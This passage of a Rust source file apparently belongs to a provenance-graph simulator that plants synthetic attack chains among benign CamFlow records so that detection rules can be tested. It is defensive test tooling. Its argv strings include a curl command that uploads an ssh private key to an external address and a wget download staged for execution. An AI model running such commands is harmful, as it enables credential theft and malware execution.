//! Attack scenarios (`provdb simulate --scenario NAME`): the twelve attack patterns of the
//! detection work (issue 10; sources in ../shared/docs/research/performance-and-detection.md,
//! section C), each a short causal chain in CamFlow terms embedded among the benign activity
//! of the same machine, with a ground truth that names the attack's vertices and edges.
//!
//! The chains follow the current CamFlow format (kernel v0.9.0 relation names and PROV
//! sections, libprovenance v0.5.5 attributes) and its versioning: an object that has sent
//! information gets a new version (`version_entity` / `version_activity`) before it receives
//! more, so the graph stays acyclic and a rule must follow version chains as it would on a
//! real machine. Files are `named` by path vertices; programs start by `clone`, then `exec`
//! (the binary's inode -> the new process memory, `memory_read` -> the task), with the
//! command line as an `argv` entity (`arg`); network input arrives as packets
//! (`receive_packet` -> socket -> `receive` -> task), output leaves the same way.
//!
//! ```
//! use provdb::simulate::scenarios::{simulate_scenarios, Scenario, ScenarioOptions};
//! let runs = simulate_scenarios(&[Scenario::DownloadExec], &ScenarioOptions::default());
//! let run = &runs[0];
//! assert_eq!(run.truth.scenario, Scenario::DownloadExec);
//! assert!(run.truth.vertices.iter().any(|v| v.role == "payload file"));
//! // The attack is among benign documents of the same machine.
//! assert!(run.documents.len() > 5);
//! assert!(run.documents.iter().all(|d| d.machine == run.truth.machine));
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

use std::fmt::Write as _;

use super::{cf_date, enc, ident, Doc, Machine, SimDocument, Simulation, SimulationOptions};
use super::{DM_ACTIVITY, DM_AGENT, DM_ENTITY, DM_RELATION};

/// One of the twelve attack scenarios, named as the detection rules that must catch them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Scenario {
    /// A secret (an ssh private key) is read and sent to an external address.
    Exfiltration,
    /// A program is downloaded, made executable and run.
    DownloadExec,
    /// A web server spawns a shell that runs recon commands.
    Webshell,
    /// A shell reads its commands from, and writes its output to, an external connection.
    ReverseShell,
    /// A user program turns itself into root and starts a root shell.
    PrivilegeEscalation,
    /// A program copied to /dev/shm is executed from there.
    TmpExec,
    /// A root shell truncates the auth log and removes the shell history.
    LogTampering,
    /// A script loads a kernel module from /tmp.
    KernelModule,
    /// Downloaded data is written to ~/.ssh/authorized_keys and a crontab.
    Persistence,
    /// A downloaded program is executed from an anonymous memory file (memfd).
    Fileless,
    /// find and grep search for private keys and passwords, and read a credentials file.
    CredentialHunt,
    /// /etc/shadow is hard-linked under /tmp.
    SensitiveLink,
}

impl Scenario {
    /// Every scenario, in the issue's order.
    pub const ALL: [Scenario; 12] = [
        Scenario::Exfiltration,
        Scenario::DownloadExec,
        Scenario::Webshell,
        Scenario::ReverseShell,
        Scenario::PrivilegeEscalation,
        Scenario::TmpExec,
        Scenario::LogTampering,
        Scenario::KernelModule,
        Scenario::Persistence,
        Scenario::Fileless,
        Scenario::CredentialHunt,
        Scenario::SensitiveLink,
    ];

    /// The scenario's name (also the name of the rule that detects it).
    pub fn name(self) -> &'static str {
        match self {
            Scenario::Exfiltration => "exfiltration",
            Scenario::DownloadExec => "download-exec",
            Scenario::Webshell => "webshell",
            Scenario::ReverseShell => "reverse-shell",
            Scenario::PrivilegeEscalation => "privilege-escalation",
            Scenario::TmpExec => "tmp-exec",
            Scenario::LogTampering => "log-tampering",
            Scenario::KernelModule => "kernel-module",
            Scenario::Persistence => "persistence",
            Scenario::Fileless => "fileless",
            Scenario::CredentialHunt => "credential-hunt",
            Scenario::SensitiveLink => "sensitive-link",
        }
    }

    /// The scenarios a `--scenario` argument names: one name, or `all`.
    ///
    /// ```
    /// use provdb::simulate::scenarios::Scenario;
    /// assert_eq!(Scenario::parse_list("tmp-exec").unwrap(), vec![Scenario::TmpExec]);
    /// assert_eq!(Scenario::parse_list("all").unwrap().len(), 12);
    /// let err = Scenario::parse_list("rootkit").unwrap_err().to_string();
    /// assert!(err.contains("rootkit") && err.contains("download-exec"), "{err}");
    /// ```
    pub fn parse_list(text: &str) -> Result<Vec<Scenario>, UnknownScenario> {
        if text == "all" {
            return Ok(Scenario::ALL.to_vec());
        }
        Scenario::ALL
            .iter()
            .find(|s| s.name() == text)
            .map(|s| vec![*s])
            .ok_or_else(|| UnknownScenario {
                name: text.to_owned(),
            })
    }
}

impl std::fmt::Display for Scenario {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// A `--scenario` argument that names no scenario.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error(
    "unknown scenario '{name}'; valid scenarios: {}, or all",
    valid_names()
)]
pub struct UnknownScenario {
    /// The name given.
    pub name: String,
}

fn valid_names() -> String {
    Scenario::ALL.map(Scenario::name).join(", ")
}

/// What to generate around the attacks.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScenarioOptions {
    /// Seed of every random choice (machine ids, background activity).
    pub seed: u64,
    /// Benign documents of each machine, before and after its attack (half each); one more
    /// benign document separates each step of the attack.
    pub background_documents: u64,
    /// Target records per benign document.
    pub records_per_document: usize,
}

impl Default for ScenarioOptions {
    fn default() -> Self {
        ScenarioOptions {
            seed: 1,
            background_documents: 10,
            records_per_document: 40,
        }
    }
}

/// A vertex of the attack, as the ground truth names it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TruthVertex {
    /// What it is in the attack ("dropper", "payload file", "c2 socket", ...).
    pub role: &'static str,
    /// External id (base64 CamFlow identifier, without `cf:`).
    pub id: String,
    /// CamFlow type (`task`, `file`, `socket`, ...).
    pub type_name: &'static str,
}

/// An edge of the attack, in information-flow direction (sender -> receiver).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TruthEdge {
    /// External relation id.
    pub id: String,
    /// CamFlow relation type (`receive`, `write`, `exec`, ...).
    pub type_name: &'static str,
    /// External id of the sender.
    pub from: String,
    /// External id of the receiver.
    pub to: String,
}

/// The ground truth of one scenario: its attack's key vertices and edges, in causal order.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Truth {
    /// The scenario.
    pub scenario: Scenario,
    /// The machine it ran on.
    pub machine: u32,
    /// Key vertices, in the order the attack reaches them.
    pub vertices: Vec<TruthVertex>,
    /// Key edges, in the order they happen (their times never decrease).
    pub edges: Vec<TruthEdge>,
}

impl Truth {
    /// The truth as a JSON document (`scenario`, `machine`, `vertices` with `role`, `id` and
    /// `type`, `edges` with `id`, `type`, `from` and `to`).
    pub fn to_json(&self) -> serde_json::Value {
        serde_json::json!({
            "scenario": self.scenario.name(),
            "machine": self.machine,
            "vertices": self.vertices.iter().map(|v| serde_json::json!({
                "role": v.role, "id": v.id, "type": v.type_name,
            })).collect::<Vec<_>>(),
            "edges": self.edges.iter().map(|e| serde_json::json!({
                "id": e.id, "type": e.type_name, "from": e.from, "to": e.to,
            })).collect::<Vec<_>>(),
        })
    }

    /// The file name of the truth beside the documents: `truth-<scenario>.json`.
    pub fn file_name(&self) -> String {
        format!("truth-{}.json", self.scenario.name())
    }
}

/// One machine's documents with its attack embedded, and the attack's ground truth.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScenarioRun {
    /// The documents, in the order the machine would send them.
    pub documents: Vec<SimDocument>,
    /// What the attack is made of.
    pub truth: Truth,
}

/// Runs each scenario on its own machine (distinct machine ids), deterministic from the seed.
pub fn simulate_scenarios(scenarios: &[Scenario], options: &ScenarioOptions) -> Vec<ScenarioRun> {
    let mut sim = Simulation::new(&SimulationOptions {
        seed: options.seed,
        machines: scenarios.len() as u32,
        documents_per_machine: 0,
        records_per_document: options.records_per_document,
    });
    let before = options.background_documents / 2;
    let after = options.background_documents - before;
    scenarios
        .iter()
        .enumerate()
        .map(|(mi, scenario)| {
            let mut documents: Vec<SimDocument> = (0..before).map(|_| sim.document(mi)).collect();
            let mut attack = Attack::new(&mut sim, mi, *scenario);
            attack.run();
            let (attack_docs, truth) = attack.finish();
            documents.extend(attack_docs);
            documents.extend((0..after).map(|_| sim.document(mi)));
            ScenarioRun { documents, truth }
        })
        .collect()
}

/// CamFlow's node type bits (camflow-dev@08615333 include/uapi/linux/provenance_types.h);
/// only the class bits matter to readers, the low bits make the ids look real.
const ACT_TASK: u64 = DM_ACTIVITY | 1;
const ENT_INODE_FILE: u64 = DM_ENTITY | 0x0200;
const ENT_INODE_DIRECTORY: u64 = DM_ENTITY | 0x0400;
const ENT_INODE_SOCKET: u64 = DM_ENTITY | 0x8000;
const ENT_PACKET: u64 = DM_ENTITY | 0x0002_0000;
const ENT_IATTR: u64 = DM_ENTITY | 0x0004_0000;
const ENT_PATH: u64 = DM_ENTITY | 0x0008_0000;
const ENT_ARGV: u64 = DM_ENTITY | 0x0010_0000;
const ENT_ADDR: u64 = DM_ENTITY | 0x0001_0000;
const ENT_PROC: u64 = DM_ENTITY | 0x0800_0000;

/// The machine's own address in the scenarios (a NATed VM, as in CamFlow's samples).
const LOCAL_IP: &str = "10.0.2.15";

/// The W3C section of a relation type and its (sender, receiver) keys, from the PROV class
/// CamFlow v0.9.0 gives each name (camflow-format.md section 4.1).
fn relation_section(ty: &str) -> (&'static str, &'static str, &'static str) {
    match ty {
        "accept" | "file_rcv" | "getattr" | "load_file" | "memory_read" | "mmap"
        | "mmap_private" | "open" | "perm_check" | "read" | "read_link" | "receive" | "search" => {
            ("used", "prov:entity", "prov:activity")
        }
        "clone" | "version_activity" | "ptrace_attach_task" | "terminate_task" => {
            ("wasInformedBy", "prov:informant", "prov:informed")
        }
        "load_module" | "load_firmware" | "load_kexec_image" => {
            ("wasInfluencedBy", "prov:influencer", "prov:influencee")
        }
        "accept_socket" | "addressed" | "arg" | "env" | "exec" | "named" | "receive_packet"
        | "send_packet" | "setattr_inode" | "version_entity" => {
            ("wasDerivedFrom", "prov:usedEntity", "prov:generatedEntity")
        }
        // bind, connect, exec_task, inode_create, link, send, setattr, setuid, symlink,
        // unlink, write, ...: activity -> entity.
        _ => ("wasGeneratedBy", "prov:activity", "prov:entity"),
    }
}

/// A vertex of the attack and its current version.
#[derive(Debug, Clone)]
struct Node {
    /// CamFlow type name.
    ty: &'static str,
    /// Type bits of its identifier.
    bits: u64,
    /// Kernel object id.
    id: u64,
    version: u32,
    /// External id of the current version.
    ext: String,
    /// Type-specific attributes (after the common ones, before `prov:label`).
    attrs: String,
    /// Label of a version, `{v}` standing for the version number.
    label: String,
    /// The current version has sent information: the next incoming edge makes a new
    /// version first (CamFlow's versioning, which keeps the graph acyclic).
    has_sent: bool,
    /// False for packets and the machine agent, which CamFlow never versions.
    versioned: bool,
}

/// One edge of the attack, with the endpoints' versions it connected.
#[derive(Debug, Clone)]
struct Flow {
    id: String,
    ty: &'static str,
    from: (String, &'static str),
    to: (String, &'static str),
    /// The version edge that made the receiver's version just before (the chain passes
    /// through it, so the truth names it too).
    versioned: Option<Box<Flow>>,
}

/// A process: its task and its process memory (which carries uid and gid).
#[derive(Debug, Clone)]
struct Proc {
    task: Node,
    mem: Node,
    uid: u32,
}

/// Builds one machine's attack into documents, between benign documents of that machine.
struct Attack<'s> {
    sim: &'s mut Simulation,
    mi: usize,
    scenario: Scenario,
    doc: Doc,
    out: Vec<SimDocument>,
    truth: Truth,
}

impl<'s> Attack<'s> {
    fn new(sim: &'s mut Simulation, mi: usize, scenario: Scenario) -> Attack<'s> {
        let machine = sim.machines[mi].id;
        sim.machines[mi].time += 1;
        Attack {
            sim,
            mi,
            scenario,
            doc: Doc::new(),
            out: Vec::new(),
            truth: Truth {
                scenario,
                machine,
                vertices: Vec::new(),
                edges: Vec::new(),
            },
        }
    }

    fn m(&mut self) -> &mut Machine {
        &mut self.sim.machines[self.mi]
    }

    fn run(&mut self) {
        match self.scenario {
            Scenario::Exfiltration => self.exfiltration(),
            Scenario::DownloadExec => self.download_exec(),
            Scenario::Webshell => self.webshell(),
            Scenario::ReverseShell => self.reverse_shell(),
            Scenario::PrivilegeEscalation => self.privilege_escalation(),
            Scenario::TmpExec => self.tmp_exec(),
            Scenario::LogTampering => self.log_tampering(),
            Scenario::KernelModule => self.kernel_module(),
            Scenario::Persistence => self.persistence(),
            Scenario::Fileless => self.fileless(),
            Scenario::CredentialHunt => self.credential_hunt(),
            Scenario::SensitiveLink => self.sensitive_link(),
        }
    }

    fn finish(mut self) -> (Vec<SimDocument>, Truth) {
        self.flush();
        (self.out, self.truth)
    }

    /// Ends the current attack document, lets the machine do one benign document's worth of
    /// work, and goes on a second later: the attack's steps are interleaved with background
    /// activity and their times increase.
    fn tick(&mut self) {
        self.flush();
        let benign = self.sim.document(self.mi);
        self.out.push(benign);
        self.m().time += 1;
    }

    fn flush(&mut self) {
        let doc = std::mem::replace(&mut self.doc, Doc::new());
        if doc.records > 0 {
            let records = doc.records;
            let machine = self.truth.machine;
            self.out.push(SimDocument {
                machine,
                json: doc.finish(),
                records,
            });
        }
    }

    /// Adds an element, starting a new document (same second) when a section is full.
    fn add(&mut self, section: &str, key: &str, body: &str) {
        if !self.doc.add(section, key, body) {
            self.flush();
            // An element of a few hundred bytes always fits an empty section.
            self.doc.add(section, key, body);
        }
    }

    /// The attributes every node starts with (libprovenance `__node_start`).
    fn common(&mut self, ty: &str, id: u64, version: u32) -> String {
        let m = self.m();
        m.jiffies += 1;
        let epoch = 1 + (m.docs / 50) as u32;
        format!(
            "\"cf:id\":\"{id}\",\"prov:type\":\"{ty}\",\"cf:boot_id\":{},\"cf:machine_id\":\"cf:{}\",\"cf:version\":{version},\"cf:date\":\"{}\",\"cf:taint\":\"0\",\"cf:jiffies\":\"{}\",\"cf:epoch\":{epoch}",
            m.boot,
            m.id,
            cf_date(m.time),
            m.jiffies
        )
    }

    /// A new vertex (version 0), written into the current document.
    fn node(&mut self, ty: &'static str, bits: u64, attrs: String, label: String) -> Node {
        let m = self.m();
        m.next_node += 1;
        let mut node = Node {
            ty,
            bits,
            id: m.next_node,
            version: 0,
            ext: String::new(),
            attrs,
            label,
            has_sent: false,
            versioned: true,
        };
        self.emit(&mut node);
        node
    }

    /// Writes the current version of `node` into the document.
    fn emit(&mut self, node: &mut Node) {
        let (boot, machine) = (self.m().boot, self.m().id);
        node.ext = enc(&ident(node.bits, node.id, boot, machine, node.version));
        let common = self.common(node.ty, node.id, node.version);
        let label = node.label.replace("{v}", &node.version.to_string());
        let body = format!("{common},{},\"prov:label\":\"{label}\"", node.attrs);
        let section = if node.bits & DM_ACTIVITY != 0 {
            "activity"
        } else {
            "entity"
        };
        let key = node.ext.clone();
        self.add(section, &key, &body);
    }

    /// A new version of `node`, linked to the previous one as CamFlow links them; returns
    /// the version edge.
    fn new_version(&mut self, node: &mut Node) -> Flow {
        let previous = node.clone();
        node.version += 1;
        node.has_sent = false;
        self.emit(node);
        let ty = if node.bits & DM_ACTIVITY != 0 {
            "version_activity"
        } else {
            "version_entity"
        };
        let id = self.relation(ty, &previous.ext, &node.ext);
        Flow {
            id,
            ty,
            from: (previous.ext, previous.ty),
            to: (node.ext.clone(), node.ty),
            versioned: None,
        }
    }

    /// A relation element; returns its external id.
    fn relation(&mut self, ty: &'static str, from: &str, to: &str) -> String {
        let (section, from_key, to_key) = relation_section(ty);
        let m = self.m();
        m.next_rel += 1;
        m.jiffies += 1;
        let id = ident(DM_RELATION | 0x40, m.next_rel, m.boot, m.id, 0);
        let epoch = 1 + (m.docs / 50) as u32;
        let mut body = format!(
            "\"cf:id\":\"{}\",\"prov:type\":\"{ty}\",\"cf:boot_id\":{},\"cf:machine_id\":\"cf:{}\",\"cf:date\":\"{}\",\"cf:jiffies\":\"{}\",\"cf:epoch\":{epoch},\"prov:label\":\"{ty}\",\"cf:allowed\":\"true\",\"{from_key}\":\"cf:{from}\",\"{to_key}\":\"cf:{to}\"",
            m.next_rel,
            m.boot,
            m.id,
            cf_date(m.time),
            m.jiffies
        );
        if matches!(ty, "read" | "write" | "send" | "receive") {
            let _ = write!(body, ",\"cf:offset\":\"{}\"", 1 + m.jiffies % 4096);
        }
        let _ = write!(
            body,
            ",\"cf:flags\":\"0\",\"cf:task_id\":\"{}\"",
            m.next_node
        );
        let key = enc(&id);
        self.add(section, &key, &body);
        key
    }

    /// Information flows from `from` to `to` by a relation of type `ty`; `to` gets a new
    /// version first if it has sent information since its last version.
    fn flow(&mut self, ty: &'static str, from: &mut Node, to: &mut Node) -> Flow {
        let versioned = (to.has_sent && to.versioned).then(|| Box::new(self.new_version(to)));
        from.has_sent = true;
        let id = self.relation(ty, &from.ext, &to.ext);
        Flow {
            id,
            ty,
            from: (from.ext.clone(), from.ty),
            to: (to.ext.clone(), to.ty),
            versioned,
        }
    }

    /// Puts an edge, and its endpoints with their roles, into the ground truth (an empty
    /// role leaves that endpoint out; a vertex is named once, with its first role).
    fn key(&mut self, flow: &Flow, from_role: &'static str, to_role: &'static str) {
        if let Some(version) = &flow.versioned {
            self.key(version, "", "");
        }
        for (role, (id, ty)) in [(from_role, &flow.from), (to_role, &flow.to)] {
            if !role.is_empty() && !self.truth.vertices.iter().any(|v| v.id == *id) {
                self.truth.vertices.push(TruthVertex {
                    role,
                    id: id.clone(),
                    type_name: ty,
                });
            }
        }
        self.truth.edges.push(TruthEdge {
            id: flow.id.clone(),
            type_name: flow.ty,
            from: flow.from.0.clone(),
            to: flow.to.0.clone(),
        });
    }

    // ---- Building blocks -------------------------------------------------------------------

    /// An inode with its path: the inode vertex, a `path` vertex and the `named` edge.
    fn inode(&mut self, ty: &'static str, bits: u64, path: &str, uid: u32, mode: u32) -> Node {
        let ino = 200_000 + self.m().next_node % 1_000_000;
        let machine = self.m().id;
        let secctx = if path.starts_with("/home") {
            "unconfined_u:object_r:user_home_t:s0"
        } else {
            "system_u:object_r:etc_t:s0"
        };
        let attrs = format!(
            "\"cf:name\":\"{path}\",\"cf:uid\":{uid},\"cf:gid\":{uid},\"cf:mode\":\"0x{mode:x}\",\"cf:secctx\":\"{secctx}\",\"cf:ino\":{ino},\"cf:uuid\":\"{machine:08x}-0000-4a5b-9c8d-{:012x}\"",
            u64::from(machine) * 7919
        );
        let mut node = self.node(ty, bits, attrs, format!("[{ty}] {{v}}"));
        let mut name = self.node(
            "path",
            ENT_PATH,
            format!("\"cf:pathname\":\"{path}\""),
            format!("[path] {path}"),
        );
        self.flow("named", &mut name, &mut node);
        node
    }

    /// A regular file (mode like 0o100644 as CamFlow prints it, 0x81a4).
    fn file(&mut self, path: &str, uid: u32, mode: u32) -> Node {
        self.inode("file", ENT_INODE_FILE, path, uid, mode)
    }

    fn task_attrs(pid: u32) -> String {
        format!(
            "\"cf:pid\":{pid},\"cf:vpid\":{pid},\"cf:utime\":\"{}\",\"cf:stime\":\"{}\",\"cf:vm\":\"{}\",\"cf:rss\":\"{}\",\"cf:hw_vm\":\"0\",\"cf:hw_rss\":\"0\",\"cf:rbytes\":\"0\",\"cf:wbytes\":\"0\",\"cf:cancel_wbytes\":\"0\",\"cf:utsns\":4026531838,\"cf:ipcns\":4026531839,\"cf:mntns\":4026531840,\"cf:pidns\":4026531836,\"cf:netns\":4026531992,\"cf:cgroupns\":4026531835",
            pid % 97,
            pid % 89,
            180_000_000 + pid,
            4_000_000 + pid
        )
    }

    fn memory(&mut self, pid: u32, uid: u32) -> Node {
        let secctx = if uid == 0 {
            "system_u:system_r:unconfined_service_t:s0"
        } else {
            "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023"
        };
        self.node(
            "process_memory",
            ENT_PROC,
            format!(
                "\"cf:uid\":{uid},\"cf:gid\":{uid},\"cf:tgid\":{pid},\"cf:secctx\":\"{secctx}\""
            ),
            "[process] {v}".into(),
        )
    }

    /// A process that was already running when the attack starts (a login shell, a daemon).
    fn running(&mut self, pid: u32, uid: u32) -> Proc {
        let mut task = self.node("task", ACT_TASK, Self::task_attrs(pid), "[task] {v}".into());
        let mut mem = self.memory(pid, uid);
        self.flow("memory_read", &mut mem, &mut task);
        Proc { task, mem, uid }
    }

    /// `parent` forks a child (same uid); returns the child and the `clone` edge.
    fn fork(&mut self, parent: &mut Proc, pid: u32) -> (Proc, Flow) {
        let mut task = self.node("task", ACT_TASK, Self::task_attrs(pid), "[task] {v}".into());
        let clone = self.flow("clone", &mut parent.task, &mut task);
        let mut mem = self.memory(pid, parent.uid);
        self.flow("memory_read", &mut mem, &mut task);
        let child = Proc {
            task,
            mem,
            uid: parent.uid,
        };
        (child, clone)
    }

    /// `proc` executes `binary` with `argv`: the task makes new process memory
    /// (`exec_task`), derived from the binary (`exec`) and the command line (`arg`), which
    /// the task then runs (`memory_read`). Returns the `exec` and `memory_read` edges.
    fn exec(&mut self, proc: &mut Proc, binary: &mut Node, argv: &str) -> (Flow, Flow) {
        self.flow("exec_task", &mut proc.task, &mut proc.mem);
        let exec = self.flow("exec", binary, &mut proc.mem);
        let mut args = self.node(
            "argv",
            ENT_ARGV,
            format!("\"cf:value\":\"{argv}\",\"cf:truncated\":\"false\""),
            format!("[argv] {argv}"),
        );
        self.flow("arg", &mut args, &mut proc.mem);
        let run = self.flow("memory_read", &mut proc.mem, &mut proc.task);
        (exec, run)
    }

    /// Forks a child of `parent` that executes the program at `path`; returns the child,
    /// the `clone` edge and the `exec` and `memory_read` edges.
    fn spawn(
        &mut self,
        parent: &mut Proc,
        pid: u32,
        path: &str,
        argv: &str,
    ) -> (Proc, Flow, Flow, Flow) {
        let (mut child, clone) = self.fork(parent, pid);
        let mut binary = self.file(path, 0, 0x81ed);
        let (exec, run) = self.exec(&mut child, &mut binary, argv);
        (child, clone, exec, run)
    }

    /// `proc` connects a TCP socket to `host:port`: the socket, the `addressed` edge (from
    /// the address vertex) and the `connect` edge.
    fn connect(&mut self, proc: &mut Proc, host: &str, port: u16) -> (Node, Flow, Flow) {
        let mut socket = self.inode_socket(proc.uid);
        self.flow("socket_create", &mut proc.task, &mut socket);
        let mut address = self.address(host, port);
        let addressed = self.flow("addressed", &mut address, &mut socket);
        let connect = self.flow("connect", &mut proc.task, &mut socket);
        (socket, addressed, connect)
    }

    fn inode_socket(&mut self, uid: u32) -> Node {
        let ino = 300_000 + self.m().next_node % 1_000_000;
        self.node(
            "socket",
            ENT_INODE_SOCKET,
            format!("\"cf:uid\":{uid},\"cf:gid\":{uid},\"cf:mode\":\"0xc1ff\",\"cf:secctx\":\"system_u:object_r:unlabeled_t:s0\",\"cf:ino\":{ino},\"cf:uuid\":\"00000000-0000-0000-0000-000000000000\""),
            "[socket] {v}".into(),
        )
    }

    fn address(&mut self, host: &str, port: u16) -> Node {
        self.node(
            "address",
            ENT_ADDR,
            format!("\"cf:address\":{{\"type\":\"AF_INET\",\"host\":\"{host}\",\"service\":\"{port}\"}}"),
            format!("[address] IPV4 {host} ({port})"),
        )
    }

    /// A packet vertex: its identifier is the packet's (ip id, addresses, ports, protocol,
    /// sequence, in network order), and it has none of the node attributes (no boot, machine,
    /// version or date), as libprovenance writes packets.
    fn packet(&mut self, sender: (&str, u16), receiver: (&str, u16), len: u32) -> Node {
        let m = self.m();
        m.jiffies += 1;
        m.next_node += 1;
        let ip_id = (m.next_node % 65_536) as u16;
        let seq = (m.jiffies as u32).wrapping_mul(2_654_435_761);
        let ip = |text: &str| -> [u8; 4] {
            text.parse::<std::net::Ipv4Addr>()
                .map(|a| a.octets())
                .unwrap_or([0; 4])
        };
        let mut b = [0u8; 32];
        b[0..8].copy_from_slice(&ENT_PACKET.to_le_bytes());
        b[8..10].copy_from_slice(&ip_id.to_be_bytes());
        b[12..16].copy_from_slice(&ip(sender.0));
        b[16..20].copy_from_slice(&ip(receiver.0));
        b[20..22].copy_from_slice(&sender.1.to_be_bytes());
        b[22..24].copy_from_slice(&receiver.1.to_be_bytes());
        b[24] = 6;
        b[28..32].copy_from_slice(&seq.to_be_bytes());
        let ext = enc(&b);
        // libprovenance prints the raw (network-order) id and seq as host integers.
        let body = format!(
            "\"cf:id\":{},\"cf:seq\":{},\"cf:sender\":\"{}:{}\",\"cf:receiver\":\"{}:{}\",\"prov:type\":\"packet\",\"cf:taint\":\"0\",\"cf:jiffies\":\"{}\",\"cf:len\":{len},\"prov:label\":\"[packet] {}:{}->{}:{} ({})\"",
            ip_id.swap_bytes(),
            seq.swap_bytes(),
            sender.0,
            sender.1,
            receiver.0,
            receiver.1,
            m.jiffies,
            sender.0,
            sender.1,
            receiver.0,
            receiver.1,
            ip_id.swap_bytes()
        );
        self.add("entity", &ext.clone(), &body);
        Node {
            ty: "packet",
            bits: ENT_PACKET,
            id: u64::from(ip_id),
            version: 0,
            ext,
            attrs: String::new(),
            label: String::new(),
            has_sent: false,
            versioned: false,
        }
    }

    /// `proc` receives a packet from `remote` on `socket`; returns the packet,
    /// `receive_packet` and `receive` edges.
    fn receive(
        &mut self,
        proc: &mut Proc,
        socket: &mut Node,
        remote: (&str, u16),
        len: u32,
    ) -> (Node, Flow, Flow) {
        let local = (LOCAL_IP, 40_000 + (socket.id % 20_000) as u16);
        let mut packet = self.packet(remote, local, len);
        let in_flow = self.flow("receive_packet", &mut packet, socket);
        let receive = self.flow("receive", socket, &mut proc.task);
        (packet, in_flow, receive)
    }

    /// `proc` sends a packet to `remote` over `socket`; returns the packet, `send` and
    /// `send_packet` edges.
    fn send(
        &mut self,
        proc: &mut Proc,
        socket: &mut Node,
        remote: (&str, u16),
        len: u32,
    ) -> (Node, Flow, Flow) {
        let send = self.flow("send", &mut proc.task, socket);
        let local = (LOCAL_IP, 40_000 + (socket.id % 20_000) as u16);
        let mut packet = self.packet(local, remote, len);
        let out_flow = self.flow("send_packet", socket, &mut packet);
        (packet, send, out_flow)
    }

    /// `proc` changes the mode of `file` (chmod): an `iattr` entity with the new mode
    /// (`setattr`), applied to the inode (`setattr_inode`), whose next version has that mode.
    /// Returns the `setattr`, `version_entity` and `setattr_inode` edges.
    fn chmod(&mut self, proc: &mut Proc, file: &mut Node, mode: u32) -> (Flow, Flow, Flow) {
        let iattr_id = self.m().next_node + 1;
        let mut iattr = self.node(
            "iattr",
            ENT_IATTR,
            format!("\"cf:valid\":\"0x1\",\"cf:mode\":\"0x{mode:x}\",\"cf:uid\":{0},\"cf:gid\":{0},\"cf:size\":\"0\",\"cf:atime\":\"0\",\"cf:ctime\":\"0\",\"cf:mtime\":\"0\"", proc.uid),
            format!("[iattr] {iattr_id}"),
        );
        let setattr = self.flow("setattr", &mut proc.task, &mut iattr);
        // The inode's state changes: its next version is the one with the new mode, so the
        // mode a rule reads is on the version that the exec then uses.
        file.attrs = Self::with_mode(&file.attrs, mode);
        let version = self.new_version(file);
        let apply = self.flow("setattr_inode", &mut iattr, file);
        (setattr, version, apply)
    }

    fn with_mode(attrs: &str, mode: u32) -> String {
        match attrs.find("\"cf:mode\":\"0x") {
            Some(start) => {
                let value_start = start + "\"cf:mode\":\"".len();
                let end = attrs[value_start..]
                    .find('"')
                    .map_or(attrs.len(), |e| value_start + e);
                format!("{}0x{mode:x}{}", &attrs[..value_start], &attrs[end..])
            }
            None => attrs.to_owned(),
        }
    }

    /// A machine agent vertex (already written by the machine's first document).
    fn machine_agent(&mut self) -> Node {
        let m = self.m();
        Node {
            ty: "machine",
            bits: DM_AGENT,
            id: 5381,
            version: 1,
            ext: enc(&m.agent),
            attrs: String::new(),
            label: String::new(),
            has_sent: false,
            versioned: false,
        }
    }

    // ---- The scenarios ---------------------------------------------------------------------

    /// A user's curl reads ~/.ssh/id_rsa and posts it to an external host (HOLMES
    /// Sensitive_Read -> Sensitive_Leak).
    fn exfiltration(&mut self) {
        let c2 = ("203.0.113.45", 443);
        let mut shell = self.running(4711, 1000);
        let argv = "curl -s -F f=@/home/user/.ssh/id_rsa https://203.0.113.45/upload";
        let (mut curl, _, exec, run) = self.spawn(&mut shell, 4790, "/usr/bin/curl", argv);
        self.key(&exec, "curl binary", "");
        self.key(&run, "", "exfiltrating task");
        self.tick();
        let mut secret = self.file("/home/user/.ssh/id_rsa", 1000, 0x8180);
        let open = self.flow("open", &mut secret, &mut curl.task);
        self.key(&open, "secret file", "exfiltrating task");
        let read = self.flow("read", &mut secret, &mut curl.task);
        self.key(&read, "secret file", "exfiltrating task");
        self.tick();
        let (mut socket, _, connect) = self.connect(&mut curl, c2.0, c2.1);
        self.key(&connect, "", "c2 socket");
        let (_, send, out) = self.send(&mut curl, &mut socket, c2, 1448);
        self.key(&send, "exfiltrating task", "c2 socket");
        self.key(&out, "", "exfiltrated packet");
    }

    /// wget downloads a program into the home folder, chmod makes it executable, the shell
    /// runs it (HOLMES Untrusted_Read -> Make_File_Exec -> Untrusted_File_Exec).
    fn download_exec(&mut self) {
        let c2 = ("198.51.100.23", 80);
        let mut shell = self.running(5120, 1000);
        let argv = "wget -q -O /home/user/.cache/update-helper http://198.51.100.23/u";
        let (mut wget, _, _, run) = self.spawn(&mut shell, 5133, "/usr/bin/wget", argv);
        self.key(&run, "", "downloader");
        let (mut socket, addressed, connect) = self.connect(&mut wget, c2.0, c2.1);
        self.key(&addressed, "c2 address", "c2 socket");
        self.key(&connect, "downloader", "c2 socket");
        self.tick();
        let (_, in_flow, receive) = self.receive(&mut wget, &mut socket, c2, 1448);
        self.key(&in_flow, "downloaded packet", "c2 socket");
        self.key(&receive, "c2 socket", "downloader");
        let mut payload = self.file("/home/user/.cache/update-helper", 1000, 0x81a4);
        let create = self.flow("inode_create", &mut wget.task, &mut payload);
        self.key(&create, "downloader", "payload file");
        let write = self.flow("write", &mut wget.task, &mut payload);
        self.key(&write, "downloader", "payload file");
        self.tick();
        let (mut chmod, _, _, _) = self.spawn(
            &mut shell,
            5140,
            "/usr/bin/chmod",
            "chmod +x /home/user/.cache/update-helper",
        );
        let (setattr, version, apply) = self.chmod(&mut chmod, &mut payload, 0x81ed);
        self.key(&setattr, "chmod task", "mode change");
        self.key(&version, "payload file", "executable payload");
        self.key(&apply, "mode change", "executable payload");
        self.tick();
        let (mut run_task, _) = self.fork(&mut shell, 5144);
